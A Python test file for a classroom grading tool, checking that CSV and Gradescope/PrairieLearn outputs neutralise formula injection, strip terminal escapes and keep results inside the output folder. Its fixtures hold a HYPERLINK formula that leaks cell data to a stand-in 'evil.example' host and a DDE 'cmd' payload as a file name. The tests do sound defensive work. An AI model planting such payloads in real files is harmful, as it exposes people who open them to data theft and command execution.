"""The teacher's files from a class's rows: a CSV no spreadsheet runs, and results written only
inside the folder asked for, whatever the students named their files or their Functions."""
from __future__ import annotations

import csv
import io
import json

from playground import protocol
from playground.grading import outputs
from playground.grading.scoring import row_of
from playground.vocabulary import Criterion

POINTS = {Criterion.FORWARD: 1.0}
FORMULA = '=HYPERLINK("https://evil.example/steal?g="&B2&C2, "click")'


def row(file: str = "class/a.py", subject: str = FORMULA, message: str = "-1 is wrong") -> dict:
    finding = protocol.CriterionFinding(criterion=Criterion.FORWARD, cases=1, passed=0, code="values", params={},
                                        message=message)
    graded = protocol.FileGraded(request_id=0, path=file, functions=[subject], modules=[], subject=subject,
                                 matched_by="@name", findings=[finding],
                                 errors=[protocol.ErrorInfo(line=3, phase="forward", type="+ValueError",
                                                            message="x\ny")], output="", sandbox="on")
    return row_of(graded, POINTS, file)


def written(record: dict) -> dict:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=outputs.CSV_COLUMNS)
    writer.writeheader()
    writer.writerow(record)
    return next(csv.DictReader(io.StringIO(out.getvalue())))


def test_cells_that_would_start_a_formula_are_quoted_and_numbers_stay_numbers():
    record = outputs.csv_record(row(file="=cmd|' /C calc'!A0.py"))
    assert record["subject"] == "'" + FORMULA and record["matched_by"] == "'@name"
    assert record["file"] == "'=cmd|' /C calc'!A0.py"
    assert record["error"] == "'+ValueError: x y"  # one line
    assert record["forward"] == 0.0 and record["score"] == 0.0
    assert written(record)["subject"] == "'" + FORMULA


def test_a_cell_is_one_harmless_line_of_bounded_length():
    record = outputs.csv_record(row(file="class/\x1b[2Ja\r\nb.py", subject="S" * 100_000))
    assert record["file"] == "class/a b.py"
    assert len(record["subject"]) == outputs.CSV_CELL and record["subject"].endswith("…")


def test_results_of_a_file_whose_stem_is_dots_stay_inside_the_folder(tmp_path):
    out = tmp_path / "out"
    paths = outputs.write_per_submission([row(file="class/...py"), row(file="class/..py"), row(file="class/a.py")],
                                         str(out), outputs.gradescope_results)
    assert all(out in path.parents for path in paths), paths
    assert not (tmp_path / "results").exists()


def test_gradescope_and_prairielearn_texts_name_files_without_escapes():
    rows = [row(file="class/\x1b[31mred.py"), row(file="class/b.py")]
    for document in (outputs.gradescope_results(rows), outputs.prairielearn_results(rows)):
        text = json.dumps(document, ensure_ascii=False)
        assert "\x1b" not in json.loads(text)["output"] and "\\u001b" not in text
        assert document["tests"][0]["name"].startswith("red.py: ")
